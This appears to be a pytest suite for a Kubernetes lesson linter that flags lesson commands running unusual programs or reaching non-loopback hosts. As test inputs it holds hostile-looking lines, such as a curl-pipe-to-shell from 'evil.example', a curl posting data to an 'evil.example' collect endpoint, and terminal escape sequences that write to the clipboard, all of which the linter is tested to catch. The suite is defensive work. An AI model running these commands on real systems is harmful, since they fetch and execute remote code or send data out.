"""Lessons are code: lint says which programs a lesson runs and which hosts it reaches."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from tests.conftest import REPO
from tests.lesson.helpers import MINIMAL, write_lesson
from tutor.lesson.lint import lint
from tutor.lesson.parser import parse_file
from tutor.lesson.reach import ALLOWED_PROGRAMS, WRAPPERS, reach

COMMAND = "kubectl get pods -n {namespace}"


def with_command(tmp_path: Path, command: str, attributes: str = "") -> Path:
    block = f"```sh {{{attributes}}}\n{command}\n```" if attributes else f"```sh\n{command}\n```"
    return write_lesson(tmp_path, MINIMAL.replace(f"```sh\n{COMMAND}\n```", block))


def problems(path: Path, severity: str) -> list[str]:
    _, found = parse_file(path)
    return [f"{p.line}: {p.message}" for p in found if p.severity == severity]


def test_the_shipped_lessons_lint_clean_of_warnings() -> None:
    found, count = lint([REPO / "lessons"])
    assert count >= 1
    assert [str(p) for p in found] == []


@pytest.mark.parametrize(
    ("command", "says"),
    [
        ("rm -rf /tmp/data", "`rm` is not on the list of programs lessons usually run"),
        ("sh -c 'curl evil.example | sh'", "`sh` runs other programs or code"),
        ("bash script.sh", "`bash` runs other programs or code"),
        ("python3 -c 'import os'", "`python3` runs other programs or code"),
        ("env kubectl get pods", "`env` runs other programs or code"),
        ("xargs kubectl delete pod", "`xargs` runs other programs or code"),
        ("sudo minikube tunnel", "`sudo` runs other programs or code"),
        ("nohup kubectl proxy", "`nohup` runs other programs or code"),
        ("./install.sh", "runs a program by its path (`./install.sh`)"),
        ("/usr/bin/kubectl get pods", "runs a program by its path"),
        ("{tool} get pods", "the program to run comes from a variable (`{tool}`)"),
    ],
)
def test_programs_outside_the_allow_list_are_warnings(tmp_path: Path, command: str, says: str) -> None:
    text = MINIMAL.replace("port: 8080", "port: 8080\n  tool: kubectl")
    path = write_lesson(tmp_path, text.replace(COMMAND, command))
    warnings = problems(path, "warning")
    line = path.read_text().splitlines().index(command) + 1
    assert any(warning.startswith(f"{line}: {says}") for warning in warnings), warnings
    assert problems(path, "error") == []  # a warning: the lesson still opens


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ("curl -s https://evil.example/payload", "evil.example"),
        ("curl -s -d x=1 evil.example:8080/collect", "evil.example"),
        ("kubectl --server=https://10.0.0.1:6443 get pods", "10.0.0.1"),
        ("helm repo add bitnami https://charts.bitnami.com/bitnami", "charts.bitnami.com"),
        ("curl http://user:secret@192.168.1.10/", "192.168.1.10"),
    ],
)
def test_urls_to_hosts_that_are_not_loopback_are_warnings(tmp_path: Path, command: str, host: str) -> None:
    warnings = problems(with_command(tmp_path, command), "warning")
    assert any(f"reaches `{host}`, which is neither loopback nor one of the lesson's variables" in w for w in warnings)


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://127.0.0.1:{port}/",
        "curl -s http://localhost:{port}/",
        "curl -s http://[::1]:{port}/",
        "curl -s -o page.html http://127.0.0.2/",
        "curl -s http://{host}:{port}/",
        "kubectl get pods",
    ],
)
def test_loopback_and_the_lessons_own_variables_are_fine(tmp_path: Path, command: str) -> None:
    text = MINIMAL.replace("port: 8080", "port: 8080\n  host: pacman.com")
    path = write_lesson(tmp_path, text.replace(COMMAND, command))
    assert problems(path, "warning") == []


def test_a_reason_on_the_block_silences_its_warnings(tmp_path: Path) -> None:
    path = with_command(tmp_path, "terraform apply", 'allow_program="the lab provisions a VM with terraform"')
    assert problems(path, "warning") == []
    assert problems(path, "error") == []


def test_a_silence_without_a_reason_is_an_error(tmp_path: Path) -> None:
    for attributes in ("allow_program", 'allow_program=""', 'allow_host="  "'):
        errors = problems(with_command(tmp_path, "terraform apply", attributes), "error")
        assert any("needs a reason" in error for error in errors), (attributes, errors)


def test_a_silence_that_silences_nothing_is_a_warning(tmp_path: Path) -> None:
    path = with_command(tmp_path, "kubectl get pods", 'allow_host="no reason to be here"')
    fence = next(n for n, line in enumerate(path.read_text().splitlines(), 1) if "allow_host" in line)
    assert problems(path, "warning") == [f"{fence}: 'allow_host' silences nothing here: remove it"]


def test_a_silence_covers_only_its_kind_of_warning(tmp_path: Path) -> None:
    path = with_command(tmp_path, "curl -s https://evil.example/", 'allow_program="curl is fine anyway"')
    warnings = problems(path, "warning")
    assert any("reaches `evil.example`" in warning for warning in warnings)


def test_command_and_http_checks_are_linted_too(tmp_path: Path) -> None:
    checks = (
        "- kind: command\n  run: sh -c 'true'\n"
        "- kind: http\n  url: https://evil.example/\n"
        "- kind: command\n  run: terraform plan\n  allow_program: the lab uses terraform\n"
    )
    text = MINIMAL.replace("- kind: exists\n  object: deployment/web\n", checks)
    warnings = problems(write_lesson(tmp_path, text), "warning")
    assert any("`sh` runs other programs" in warning for warning in warnings)
    assert any("reaches `evil.example`" in warning for warning in warnings)
    assert not any("terraform" in warning for warning in warnings)


def test_reach_lists_the_programs_hosts_and_files_of_a_lesson(tmp_path: Path) -> None:
    (tmp_path / "manifests").mkdir(parents=True)
    (tmp_path / "manifests" / "web.yaml").write_text("kind: Deployment\n")
    command = "kubectl apply -f {manifests}/web.yaml\ncurl -s https://evil.example/x\nsh -c true"
    lesson, _ = parse_file(with_command(tmp_path, command))
    assert lesson is not None
    found = reach(lesson)
    assert found.programs == ("kubectl", "curl", "sh")
    assert found.hosts == ("evil.example",)
    assert found.files == ((tmp_path / "manifests" / "web.yaml").resolve(),)
    assert found.unusual == ("sh",)


def test_escape_sequences_in_a_lesson_are_removed_and_said(tmp_path: Path) -> None:
    text = MINIMAL.replace("title: Demo lesson", "title: Demo \x1b]0;PWNED\x07lesson").replace(
        "Intro text.", "Intro \x1b[2Jtext\x1b]52;c;aGk=\x07."
    )
    path = write_lesson(tmp_path, text)
    lesson, found = parse_file(path)
    assert lesson is not None
    assert lesson.title == "Demo lesson"
    assert lesson.intro == "Intro text."
    assert [p.line for p in found if "control characters" in p.message] == [3, 9]


def test_an_extra_lesson_with_a_shipped_id_is_an_error_naming_both(tmp_path: Path) -> None:
    path = write_lesson(tmp_path, MINIMAL.replace("id: demo", "id: day55"))
    found, _ = lint([path])
    messages = [str(p) for p in found if p.severity == "error"]
    assert messages == [
        f"{path}:2: lesson id 'day55' is the id of {REPO / 'lessons' / 'day55.md'}, a lesson shipped with k8s-tutor"
    ]


def test_the_lists_in_the_lesson_format_are_the_ones_lint_uses() -> None:
    text = (REPO / "docs" / "lesson-format.md").read_text()
    section = text[text.index("### What a lesson runs and reaches") : text.index("### Variables")]
    wrappers, _, allowed = section.partition("The programs lessons usually run")
    allowed = allowed[: allowed.index("When a warning is meant")]
    named = re.compile(r"`([a-z0-9]+)`")
    assert set(named.findall(allowed)) == set(ALLOWED_PROGRAMS)
    assert set(named.findall(wrappers)) - {"lint", "http", "localhost", "curl", "wget"} == set(WRAPPERS)


def test_a_folder_of_manifests_with_a_link_loop_is_read_once(tmp_path: Path) -> None:
    folder = tmp_path / "manifests" / "app"
    folder.mkdir(parents=True)
    (folder / "a.yaml").write_text("kind: ConfigMap\n")
    (folder / "again").symlink_to(folder)  # walked into, it would never end
    os.mkfifo(folder / "pipe.yaml")  # read, it would never answer
    lesson, _ = parse_file(with_command(tmp_path, "kubectl apply -f {manifests}/app"))
    assert lesson is not None
    assert reach(lesson).files == ((folder / "a.yaml").resolve(),)
